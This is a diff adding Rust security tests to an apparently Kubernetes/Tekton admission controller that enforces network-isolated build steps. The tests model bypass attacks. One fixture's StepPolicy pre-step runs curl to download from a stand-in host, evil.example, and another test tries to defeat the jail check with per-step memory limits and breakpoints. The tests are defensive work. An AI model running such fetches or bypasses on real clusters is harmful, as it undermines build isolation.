@@ -751,6 +751,15 @@ mod generated {
                 again.message, again.patch
             ));
         }
+        // As Tekton's defaulting re-serialises it (Go drops zero values: `value: ""`, `[]`).
+        let defaulted = with_steps(admitted, all.iter().map(canonical).collect());
+        let again = run(set, &defaulted);
+        if again.outcome == Outcome::Denied || !again.patch.is_empty() {
+            return Err(format!(
+                "second pass over the defaulted form: {:?} {:?}",
+                again.message, again.patch
+            ));
+        }
         let mut named = admitted.clone();
         named["metadata"]["name"] = json!("run-1");
         let pod = json!({"apiVersion": "v1", "kind": "Pod",
@@ -809,5 +818,71 @@ mod generated {
                 })?;
             }
         }
+    }
+}
+
+/// A namespace admin's StepPolicy in the namespace a hermetic ClusterStepPolicy covers.
+const TEAM_STEPS: &str = r#"
+---
+apiVersion: bookend.dev/v1alpha1
+kind: StepPolicy
+metadata: {name: team, namespace: team-a, creationTimestamp: "2026-01-01T00:00:00Z"}
+spec:
+  preSteps:
+  - name: bookend-team-fetch
+    image: curlimages/curl
+    command: [sh, -c, "curl -o /workspace/deps.tgz https://evil.example/deps.tgz"]
+"#;
+
+/// Attack (claim 1, by a namespace admin, who may create StepPolicies): the platform's
+/// ClusterStepPolicy asks for hermetic user steps; the namespace admin, who also writes the
+/// TaskRuns, adds a StepPolicy whose pre-step fetches what the build uses. It is an org step,
+/// so bookend leaves it the network: the namespace's own code runs networked before the
+/// TaskRun's steps, in their Pod, writing into their workspace. The claim says no step the
+/// author supplied runs with network; a StepPolicy's steps are the namespace's, not the org's.
+#[test]
+#[ignore = "open (breaker round 36): a namespace StepPolicy's steps run with network under a ClusterStepPolicy's userSteps.network: None; whether to jail or refuse them is a design decision"]
+fn a_namespace_policys_step_does_not_run_networked_under_the_platforms_jail() {
+    let set = policies(&format!("{ON_SUCCESS_HERMETIC}{TEAM_STEPS}"));
+    let d = run(&set, &taskrun(build()));
+    if d.outcome == Outcome::Denied {
+        return;
+    }
+    let team = steps(&d.object)
+        .into_iter()
+        .find(|s| s["name"] == "bookend-team-fetch")
+        .expect("the team's step is injected");
+    let env = team["env"].as_array().cloned().unwrap_or_default();
+    assert!(
+        hermetic::effectively_jailed(&env),
+        "the namespace's step runs networked: {team}"
+    );
+}
+
+/// Attack (claim 2): the TaskRun's own fields that Tekton applies to a step by name, aimed at
+/// the jail check: a memory limit that OOM-kills it (a jail failure the node did not cause, and
+/// the Always post-steps skipped), a breakpoint that holds it.
+#[test]
+fn the_taskruns_per_step_fields_cannot_reach_the_jail_check() {
+    for yaml in [ALWAYS_HERMETIC, ON_SUCCESS_HERMETIC] {
+        let set = policies(yaml);
+        let fields = [
+            json!({"stepSpecs": [{"name": JAIL_CHECK, "computeResources": {"limits": {"memory": "1Ki"}}}]}),
+            json!({"debug": {"breakpoints": {"beforeSteps": [JAIL_CHECK]}}}),
+        ];
+        for extra in fields {
+            let mut object = taskrun(build());
+            for (k, v) in extra.as_object().unwrap() {
+                object["spec"][k] = v.clone();
+            }
+            let d = run(&set, &object);
+            assert_eq!(d.outcome, Outcome::Denied, "{extra} admitted");
+        }
+        // v1beta1's stepOverrides.
+        let mut object = taskrun(build());
+        object["apiVersion"] = json!("tekton.dev/v1beta1");
+        object["spec"]["stepOverrides"] =
+            json!([{"name": JAIL_CHECK, "resources": {"limits": {"memory": "1Ki"}}}]);
+        assert_eq!(run(&set, &object).outcome, Outcome::Denied, "stepOverrides");
     }
 }
